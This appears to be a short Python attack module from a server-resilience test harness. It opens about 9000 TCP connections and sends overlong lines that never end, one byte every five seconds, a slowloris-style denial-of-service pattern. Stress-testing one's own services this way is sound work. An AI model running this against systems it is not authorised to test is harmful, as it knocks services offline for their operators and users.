"""Lines that are nearly as long as allowed, and never end."""
from swarm import Swarm, Wait


def attack(target, deadline):
    def script(number):
        yield b"put " + b"k" * 4000
        while True:
            yield Wait(5)
            yield b"k"
    Swarm(target.tcp, 9000, script, addresses=target.addresses).run(deadline)
